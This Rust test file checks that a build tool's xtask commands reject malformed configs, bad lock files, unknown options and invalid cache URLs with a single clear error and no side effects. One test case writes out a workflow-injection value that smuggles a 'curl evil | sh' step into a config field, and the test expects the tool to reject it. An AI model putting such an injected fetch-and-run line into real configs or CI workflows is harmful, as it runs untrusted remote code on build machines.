//! Every task against every bad input it can meet: one message naming the key or file and the
//! fix, a non-zero exit, no panic, nothing run and nothing written.

use std::{fs, path::Path};

use crate::support::*;

mod names;

/// The tasks that compute keys and build: every bad input of the config, the lock files, the
/// cache and the tools reaches them.
const BUILDS: &[&[&str]] = &[
    &["prebuild"],
    &["warm-deps"],
    &["warm"],
    &["warm-containers"],
    &["build-containers"],
    &["test", "--type", "unit"],
    &["status"],
];
const KEYS: &[&[&str]] = &[&["cache-key"], &["bump-version"], &["rollback"]];
const OTHERS: &[&[&str]] = &[
    &["workflows"],
    &["doctor"],
    &["bench"],
    &["summary"],
    &["analytics"],
    &["pin"],
    &["gc", "--keep", "1"],
    &["ci"],
    &["publish", "--push", "127.0.0.1:1/x", "--tag", "t"],
    &["smoke"],
];

struct Case {
    input: &'static str,
    /// Changes the workspace (a copy with the real config and lock files).
    setup: fn(&Path),
    /// Arguments after the task's own.
    args: &'static [&'static str],
    tasks: Vec<&'static [&'static str]>,
    expected: &'static str,
}

fn edit_config(dir: &Path, from: &str, to: &str) {
    let manifest = fs::read_to_string(dir.join("Cargo.toml")).unwrap();
    assert!(manifest.contains(from), "the config has no {from}");
    fs::write(dir.join("Cargo.toml"), manifest.replacen(from, to, 1)).unwrap();
}

fn cases() -> Vec<Case> {
    let all: Vec<_> = [BUILDS, KEYS, OTHERS].concat();
    let keyed: Vec<_> = [BUILDS, KEYS].concat();
    let nothing = |_: &Path| {};
    let mut cases = vec![
        Case {
            input: "a malformed config value",
            setup: |d| edit_config(d, "version = 1", "version = \"one\""),
            args: &[],
            tasks: all.clone(),
            expected: "`version` must be a positive integer, e.g. `version = 1`, found \"one\"",
        },
        Case {
            input: "a misspelled config key",
            setup: |d| edit_config(d, "local-cache =", "local_cache ="),
            args: &[],
            tasks: all.clone(),
            expected: "`local_cache` is not a key of [workspace.metadata.cache]: did you mean `local-cache`?",
        },
        Case {
            input: "a missing Cargo.lock",
            setup: |d| fs::remove_file(d.join("Cargo.lock")).unwrap(),
            args: &[],
            tasks: keyed.clone(),
            expected: "Cargo.lock is missing at",
        },
        Case {
            input: "an empty flake.lock",
            setup: |d| fs::write(d.join("flake.lock"), "").unwrap(),
            args: &[],
            tasks: keyed.clone(),
            expected: "flake.lock is empty",
        },
        Case {
            input: "a Cargo.lock that is a FIFO",
            setup: |d| {
                fs::remove_file(d.join("Cargo.lock")).unwrap();
                let fifo = std::ffi::CString::new(d.join("Cargo.lock").display().to_string()).unwrap();
                // SAFETY: a path this test owns, NUL-terminated.
                assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
            },
            args: &[],
            tasks: keyed.clone(),
            expected: "Cargo.lock cannot be read (not a regular file",
        },
        Case {
            input: "a flake.lock linked to /dev/zero",
            setup: |d| {
                fs::remove_file(d.join("flake.lock")).unwrap();
                std::os::unix::fs::symlink("/dev/zero", d.join("flake.lock")).unwrap();
            },
            args: &[],
            tasks: keyed.clone(),
            expected: "flake.lock cannot be read (not a regular file",
        },
        Case {
            input: "a config value that would add a line to a workflow",
            setup: |d| {
                edit_config(
                    d,
                    "local-cache = \"target/nix-cache\"",
                    "local-cache = \"x\\n      - run: curl evil | sh\"",
                )
            },
            args: &[],
            tasks: all.clone(),
            expected: "`local-cache` must be a relative directory of letters, digits",
        },
        Case {
            input: "an unknown image",
            setup: nothing,
            args: &["--image", "nope"],
            tasks: vec![&["warm-containers"], &["build-containers"], &["cache-key", "--arch", "x86_64"]],
            expected: "unknown image `nope`: the images are harness, ollama",
        },
        Case {
            input: "an unknown test type",
            setup: nothing,
            args: &[],
            tasks: vec![&["test", "--type", "nope"], &["cache-key", "--os", "ubuntu-latest", "--test-type", "nope"]],
            expected: "unknown test type `nope`: the test types are clippy, fmt, integration, unit",
        },
        Case {
            input: "an unknown arch",
            setup: nothing,
            args: &["--arch", "riscv64"],
            tasks: vec![&["warm-containers"], &["build-containers"], &["cache-key", "--image", "harness"]],
            expected: "unknown arch `riscv64`: the arches are x86_64, aarch64",
        },
        Case {
            input: "a relative file:// cache",
            setup: nothing,
            args: &["--cache", "file://relative/dir"],
            tasks: BUILDS.to_vec(),
            expected: "does not name an absolute directory: use file:///absolute/dir",
        },
        Case {
            input: "an HTTP cache without a host",
            setup: nothing,
            args: &["--cache", "http://"],
            tasks: BUILDS.to_vec(),
            expected: "has no host: use http://HOST/",
        },
        Case {
            input: "a cache that is no URL",
            setup: nothing,
            args: &["--cache", "/tmp/cache"],
            tasks: BUILDS.to_vec(),
            expected: "is not a cache: use a Nix store URL",
        },
        Case {
            input: "no nix on PATH",
            setup: nothing,
            args: &[],
            tasks: BUILDS.to_vec(),
            expected: "Nix is not installed (no `nix` on PATH): install it with `apt-get install nix-bin`",
        },
        Case {
            input: "Cachix without its CLI or a token",
            setup: nothing,
            args: &["--cache", "cachix:nanna-coder"],
            // `status` only reads: it needs neither.
            tasks: BUILDS.iter().copied().filter(|t| t[0] != "status").collect(),
            expected: "cannot push to cachix:nanna-coder:\n  - the `cachix` CLI is not on PATH",
        },
        Case {
            input: "a signing key that does not exist",
            setup: nothing,
            args: &["--signing-key", "/nonexistent/key.secret"],
            tasks: BUILDS.to_vec(),
            expected: "--signing-key /nonexistent/key.secret: no such file: create a key with `nix key generate-secret",
        },
        Case {
            input: "a signing key for Cachix",
            setup: |d| fs::write(d.join("key.secret"), "k-1:AAAA").unwrap(),
            args: &["--signing-key", "key.secret", "--cache", "cachix:nanna-coder"],
            tasks: BUILDS.to_vec(),
            expected: "--signing-key is for caches the xtask signs for: Cachix signs with the cache's own key",
        },
    ];
    cases.extend(names::cases(&all));
    cases
}

#[test]
fn every_task_meets_every_bad_input_with_one_message_and_no_change() {
    let mut problems = Vec::new();
    for (n, case) in cases().into_iter().enumerate() {
        let dir = workspace_with(&format!("bad-input-{n}"), "");
        (case.setup)(&dir);
        for task in &case.tasks {
            let before = snapshot(&dir);
            // Only cargo on PATH: whatever happens, no nix, cachix or git command can run.
            let out =
                run(binary_for(task).current_dir(&dir).args(*task).args(case.args).env("PATH", cargo_only_path()));
            let said = format!("{}\n{}", out.stdout, out.stderr);
            let label = format!("{} with {}", task.join(" "), case.input);
            let errors = out.stderr.lines().filter(|l| l.starts_with("error:")).count();
            if out.status.success() {
                problems.push(format!("{label}: exit 0\n{said}"));
            } else if said.contains("panicked") {
                problems.push(format!("{label}: panicked\n{said}"));
            } else if !out.stderr.contains(case.expected) {
                problems.push(format!("{label}: no `{}` in\n{said}", case.expected));
            } else if errors != 1 {
                problems.push(format!("{label}: {errors} error messages, not one\n{said}"));
            } else if said.contains("==>") {
                problems.push(format!("{label}: a step ran\n{said}"));
            }
            if snapshot(&dir) != before {
                problems.push(format!("{label}: files changed"));
            }
        }
    }
    assert!(problems.is_empty(), "{} problem(s):\n\n{}", problems.len(), problems.join("\n\n"));
}

#[test]
fn missing_nix_is_one_clear_error() {
    let out =
        run(xtask().args(["warm-deps", "--cache", "file:///nonexistent"]).env("PATH", cargo_only_path())).failed();
    assert!(
        out.stderr.contains("Nix is not installed") && out.stderr.contains("apt-get install nix-bin"),
        "{}",
        out.stderr
    );
}
